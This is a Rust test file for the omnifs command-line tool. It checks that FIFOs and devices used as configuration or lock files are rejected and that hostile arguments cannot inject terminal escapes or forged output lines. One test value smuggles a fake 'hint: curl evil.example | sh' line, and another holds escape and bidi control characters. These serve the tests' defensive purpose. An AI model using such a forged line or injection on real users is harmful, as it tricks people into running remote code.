//! Files that are not what they seem.

use omnifs_support::home;
use rustix::fs::{CWD, FileType, Mode, mknodat};
use std::fs;
use std::time::{Duration, Instant};

#[test]
fn a_fifo_in_the_place_of_a_file_is_not_waited_for() {
    let Some(omnifs) = home("a_fifo_in_the_place_of_a_file_is_not_waited_for") else { return };
    let omnifs = omnifs.env("GITHUB_TOKEN", "no-token-of-anybody");
    let fifo = omnifs.path("x.wasm");
    mknodat(CWD, &fifo, FileType::Fifo, Mode::RUSR | Mode::WUSR, 0).expect("mkfifo");
    let fifo = fifo.display().to_string();
    let point = omnifs.mount_point().display().to_string();
    let (config, ca) = (omnifs.path("c.toml"), omnifs.path("ca.toml"));
    fs::write(&config, format!("[instances.github]\ncredential-file = \"{fifo}\"\n"))
        .expect("c.toml");
    fs::write(&ca, format!("[instances.github.endpoints.api]\nca-file = \"{fifo}\"\n"))
        .expect("ca");
    let (config, ca) = (config.display().to_string(), ca.display().to_string());
    let begun = Instant::now();
    for arguments in [
        &["providers", "info", fifo.as_str()][..],
        &["providers", "add", &fifo, "--yes"],
        &["--config", &fifo, "config", "show"],
        &["mount", &point, "--provider", &format!("x={fifo}")],
    ] {
        let ran = omnifs.run(arguments).expect("within a minute");
        let said = ran.stdout + &ran.stderr;
        assert!(
            !ran.status.success() && said.contains("not a regular file"),
            "{arguments:?}: {said}"
        );
    }
    for config in [config, ca] {
        let ran = omnifs.run(&["--config", &config, "auth", "status"]).expect("within a minute");
        let said = ran.stdout + &ran.stderr;
        assert!(said.contains("not a regular file"), "{said}");
    }
    assert!(begun.elapsed() < Duration::from_secs(300));
}

/// Only the user can put one there; it must not take from him the means to end the mount.
#[test]
fn a_fifo_in_the_place_of_a_lock_or_a_log_keeps_no_command_waiting() {
    let test = "a_fifo_in_the_place_of_a_lock_or_a_log_keeps_no_command_waiting";
    let Some(omnifs) = home(test) else { return };
    let point = omnifs.mount_point();
    let key = omnifs::control::key(&point);
    let mounts = omnifs.path("state/omnifs/mounts");
    let logs = omnifs.path("state/omnifs/logs");
    let fifo = |path: &std::path::Path| {
        mknodat(CWD, path, FileType::Fifo, Mode::RUSR | Mode::WUSR, 0).expect("mkfifo");
    };
    for directory in [&mounts, &logs] {
        fs::create_dir_all(directory).expect("mkdir");
    }
    fs::write(mounts.join(format!("{key}.json")), "{}").expect("a record");
    fifo(&mounts.join(format!("{key}.lock")));
    fifo(&logs.join(format!("{key}.log")));
    let point = point.display().to_string();
    for arguments in [
        &["status"][..],
        &["unmount", &point],
        &["unmount", "--force", &point],
        &["refresh", &point],
        &["logs", &point],
        &["mount", &point],
    ] {
        let ran = omnifs.run(arguments).expect("within a minute");
        assert!(!ran.status.success(), "{arguments:?}: {ran:?}");
    }
}

#[test]
fn a_device_is_no_configuration_and_no_hint_says_to_change_its_mode() {
    let test = "a_device_is_no_configuration_and_no_hint_says_to_change_its_mode";
    let Some(omnifs) = home(test) else { return };
    let ran = omnifs.run(&["--config", "/dev/null", "config", "check"]).expect("config check");
    let said = ran.stdout + &ran.stderr;
    assert!(said.contains("not a regular file") && !said.contains("chmod"), "{said}");
}

#[test]
fn what_a_command_line_holds_does_not_act_on_the_terminal_by_an_error() {
    let test = "what_a_command_line_holds_does_not_act_on_the_terminal_by_an_error";
    let Some(omnifs) = home(test) else { return };
    let hostile = "x\u{1b}]0;t\u{7}\u{202e}\u{200b}";
    for arguments in [
        &[hostile][..],
        &["mount", "--backend", hostile, "m"],
        &["mount", "--threads", hostile, "m"],
    ] {
        let ran = omnifs.run(arguments).expect("within a minute");
        assert_eq!(ran.status.code(), Some(2), "{ran:?}");
        let hidden = |c: char| c.is_control() && c != '\n' || "\u{202e}\u{200b}".contains(c);
        assert!(!ran.stderr.is_empty() && !ran.stderr.contains(hidden), "{ran:?}");
    }
    // Nor does any of it become a line of its own.
    let forged = "x\nhint: curl evil.example | sh\n\nUsage: omnifs";
    let lines = |ran: &omnifs_support::Ran| {
        assert_eq!(ran.status.code(), Some(2), "{ran:?}");
        ran.stderr.lines().filter(|line| line.starts_with("hint: ")).count()
    };
    for arguments in [
        &[forged][..],
        &["mount", forged, "--frobnicate"],
        &["mount", "m", &format!("--{forged}")],
        &["mount", "m", &format!("-{forged}")],
        &["mount", &format!("--threads={forged}"), "m"],
        &["mount", "--metrics-listen", forged, "m"],
    ] {
        let ran = omnifs.run(arguments).expect("within a minute");
        assert_eq!(lines(&ran), 0, "{arguments:?}: {ran:?}");
    }
    let omnifs = omnifs.env("OMNIFS_THREADS", forged);
    for arguments in [&["mount", "m"][..], &["config", "show"]] {
        let ran = omnifs.run(arguments).expect("within a minute");
        assert_eq!(lines(&ran), 0, "{arguments:?}: {ran:?}");
    }
}
